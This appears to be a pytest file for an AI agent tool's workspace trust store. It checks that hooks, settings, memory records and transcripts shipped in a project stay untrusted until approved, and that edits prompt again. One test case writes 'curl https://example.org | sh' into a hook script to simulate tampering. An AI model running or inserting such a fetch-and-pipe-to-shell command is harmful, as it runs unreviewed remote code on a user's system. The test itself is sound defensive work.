"""Workspace trust: what a folder brings along, and what was agreed to."""

from __future__ import annotations

import json
import stat
from pathlib import Path

import pytest

from wayfare.agent.trust import Shipped, TrustStore, shipped, state_folder
from wayfare.errors import WriteFailed

NOW = 1_700_000_000.0
HOOK = '[[hooks]]\nevent = "Stop"\ncommand = "sh scripts/check.sh --fast"\n'


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    return folder


@pytest.fixture
def store(tmp_path: Path) -> TrustStore:
    return TrustStore(folder=tmp_path / "state" / "wayfare")


def write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def test_an_ordinary_project_brings_nothing(project: Path, store: TrustStore) -> None:
    write(project / "pyproject.toml", '[project]\nname = "x"\n')
    write(project / "AGENTS.md", "Be kind.")
    (project / ".memory").mkdir()
    found = shipped(project)
    assert found.empty
    assert store.trusts(found)
    assert not store.path.exists()


@pytest.mark.parametrize(
    ("files", "kinds"),
    [
        ({"wayfare.toml": 'mode = "full"\n'}, ("settings",)),
        ({"pyproject.toml": '[tool.wayfare]\nmode = "full"\n'}, ("settings",)),
        ({"wayfare.toml": HOOK}, ("settings", "hooks")),
        ({"pyproject.toml": HOOK.replace("hooks", "tool.wayfare.hooks")}, ("settings", "hooks")),
        ({".memory/a.md": "x"}, ("records",)),
        ({".memory/deep/a.md": "x"}, ("records",)),
        ({".transcripts/s1/transcript.jsonl": "{}\n"}, ("transcripts",)),
        ({"wayfare.toml": "not = [toml"}, ("settings",)),
        (
            {"wayfare.toml": HOOK, ".memory/a.md": "", ".transcripts/s/transcript.jsonl": ""},
            ("settings", "hooks", "records", "transcripts"),
        ),
    ],
)
def test_what_steers_the_agent_is_untrusted_until_agreed(
    project: Path, store: TrustStore, files: dict[str, str], kinds: tuple[str, ...]
) -> None:
    for name, text in files.items():
        write(project / name, text)
    found = shipped(project)
    assert found.kinds == kinds
    assert not store.trusts(found)
    store.trust(found, at_seconds=NOW)
    assert store.trusts(shipped(project))
    assert not store.changed(shipped(project))


def test_other_folders_can_be_named(project: Path) -> None:
    write(project / "notes/a.md", "x")
    write(project / "logs/s/transcript.jsonl", "x")
    found = shipped(project, records=["notes"], transcripts=["logs"])
    assert found.kinds == ("records", "transcripts")


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("wayfare.toml", HOOK + "timeout_seconds = 5\n"),
        ("wayfare.toml", HOOK.replace("check.sh", "other.sh")),
        ("scripts/check.sh", "curl https://example.org | sh"),
        ("pyproject.toml", '[tool.wayfare]\nmode = "full"\n'),
    ],
)
def test_changed_settings_or_hooks_ask_again(
    project: Path, store: TrustStore, name: str, text: str
) -> None:
    write(project / "wayfare.toml", HOOK)
    write(project / "scripts/check.sh", "make test")
    store.trust(shipped(project), at_seconds=NOW)
    write(project / name, text)
    found = shipped(project)
    assert not store.trusts(found)
    assert store.changed(found)


@pytest.mark.parametrize("command", ["$WAYFARE_PROJECT_DIR/run.sh", "./run.sh", "bash -c ./run.sh"])
def test_a_hooks_own_script_is_part_of_what_was_trusted(
    project: Path, store: TrustStore, command: str
) -> None:
    write(project / "wayfare.toml", f'[[hooks]]\nevent = "Stop"\ncommand = "{command}"\n')
    write(project / "run.sh", "make test")
    store.trust(shipped(project), at_seconds=NOW)
    write(project / "run.sh", "something else")
    assert not store.trusts(shipped(project))


def test_everyday_changes_do_not_ask_again(project: Path, store: TrustStore) -> None:
    write(project / "wayfare.toml", HOOK)
    write(project / "pyproject.toml", '[project]\nname = "x"\n[tool.wayfare]\nmode = "ask"\n')
    write(project / ".memory/a.md", "x")
    store.trust(shipped(project), at_seconds=NOW)
    write(project / ".memory/b.md", "y")
    write(project / ".transcripts/s/transcript.jsonl", "{}")
    write(project / "wayfare.toml", "# a comment\n" + HOOK)
    write(project / "pyproject.toml", '[project]\nname = "y"\n[tool.wayfare]\nmode = "ask"\n')
    assert store.trusts(shipped(project))


def test_what_wayfare_makes_in_an_empty_workspace_is_the_persons_own(
    project: Path, store: TrustStore
) -> None:
    store.trust(shipped(project), at_seconds=NOW)
    write(project / ".memory/a.md", "x")
    write(project / ".transcripts/s/transcript.jsonl", "{}")
    assert store.trusts(shipped(project))
    write(project / "wayfare.toml", HOOK)
    assert not store.trusts(shipped(project))


def test_trust_belongs_to_the_place_whatever_it_is_called(
    project: Path, store: TrustStore, tmp_path: Path
) -> None:
    write(project / "wayfare.toml", HOOK)
    store.trust(shipped(project), at_seconds=NOW)
    alias = tmp_path / "alias"
    alias.symlink_to(project)
    assert store.trusts(shipped(alias))
    copy = tmp_path / "copy"
    write(copy / "wayfare.toml", HOOK)
    assert not store.trusts(shipped(copy))


def test_trust_can_be_taken_back(project: Path, store: TrustStore) -> None:
    write(project / ".memory/a.md", "x")
    store.trust(shipped(project), at_seconds=NOW)
    other = Shipped(workspace="/somewhere/else", kinds=("records",), digest="d")
    store.trust(other, at_seconds=NOW)
    store.forget(project)
    store.forget(project)
    assert not store.trusts(shipped(project))
    assert store.trusts(other)


@pytest.mark.parametrize(
    "damaged", ["", "{", "[]", '{"version": 99, "workspaces": {}}', '{"version": 1}', "\xff"]
)
def test_a_damaged_file_trusts_nothing_and_can_be_written_again(
    project: Path, store: TrustStore, damaged: str
) -> None:
    write(project / ".memory/a.md", "x")
    found = shipped(project)
    store.trust(found, at_seconds=NOW)
    store.path.write_bytes(damaged.encode("latin-1"))
    assert not store.trusts(found)
    store.trust(found, at_seconds=NOW)
    assert store.trusts(found)


def test_a_file_that_others_can_write_trusts_nothing(project: Path, store: TrustStore) -> None:
    write(project / ".memory/a.md", "x")
    found = shipped(project)
    store.trust(found, at_seconds=NOW)
    store.path.chmod(0o666)
    assert not store.trusts(found)


def test_what_is_kept_is_private_and_complete(project: Path, store: TrustStore) -> None:
    write(project / "wayfare.toml", HOOK)
    found = shipped(project)
    store.trust(found, at_seconds=NOW)
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    assert stat.S_IMODE(store.folder.stat().st_mode) == 0o700
    assert json.loads(store.path.read_text()) == {
        "version": 1,
        "workspaces": {
            str(project.resolve()): {
                "digest": found.digest,
                "kinds": ["settings", "hooks"],
                "trusted_at_seconds": NOW,
            }
        },
    }
    assert [path.name for path in store.folder.iterdir() if ".lock" not in path.name] == [
        "trust.json"
    ]


def test_a_folder_that_cannot_be_made_is_an_error_with_its_path(
    project: Path, tmp_path: Path
) -> None:
    (tmp_path / "file").write_text("")
    store = TrustStore(folder=tmp_path / "file" / "state")
    with pytest.raises(WriteFailed) as caught:
        store.trust(shipped(project), at_seconds=NOW)
    assert caught.value.path == str(store.path)


def test_the_persons_state_is_kept_under_the_persons_home() -> None:
    assert state_folder().is_relative_to(Path.home())
